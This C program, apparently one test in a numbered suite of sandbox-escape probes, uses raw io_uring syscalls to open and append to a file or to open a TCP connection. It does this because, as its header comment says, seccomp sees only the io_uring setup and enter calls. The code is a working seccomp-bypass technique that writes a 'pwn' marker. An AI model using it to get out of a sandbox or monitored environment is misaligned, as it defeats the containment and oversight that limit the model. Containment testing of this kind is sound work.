/* E07: io_uring: an OPENAT (then a normal write) or a CONNECT submitted
 * through a ring; only io_uring_setup/enter/register reach seccomp.
 * Raw syscalls, no liburing. */
#include "esc.h"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -errno;
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -errno;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit SQE (copied in) and wait for its completion: returns cqe.res. */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	long e = syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (e < 0)
		return -errno;
	unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 3, "e07_io_uring open FILE | connect ADDR PORT");
	struct ring r;
	int e = ring_init(&r);
	printf("io_uring_setup -> %d (%s)\n", e, e ? strerror(-e) : "ok");
	if (e)
		return e == -ENOSYS || e == -EPERM ? 3 : 1;
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	if (strcmp(argv[1], "open") == 0) {
		sqe.opcode = IORING_OP_OPENAT;
		sqe.fd = AT_FDCWD;
		sqe.addr = (uint64_t)(uintptr_t)argv[2];
		sqe.open_flags = O_WRONLY | O_APPEND;
		int fd = ring_run(&r, &sqe);
		printf("IORING_OP_OPENAT -> %d\n", fd);
		if (fd < 0)
			return 1;
		return write(fd, "pwn-e07\n", 8) == 8 ? 0 : 1;
	}
	esc_usage(argc, 4, "e07_io_uring connect ADDR PORT");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	static struct sockaddr_in sin;
	sin.sin_family = AF_INET;
	sin.sin_port = htons((uint16_t)atoi(argv[3]));
	inet_pton(AF_INET, argv[2], &sin.sin_addr);
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = s;
	sqe.addr = (uint64_t)(uintptr_t)&sin;
	sqe.off = sizeof(sin);
	int c = ring_run(&r, &sqe);
	printf("IORING_OP_CONNECT -> %d\n", c);
	if (c < 0)
		return 1;
	return write(s, "e07\n", 4) == 4 ? 0 : 1;
}
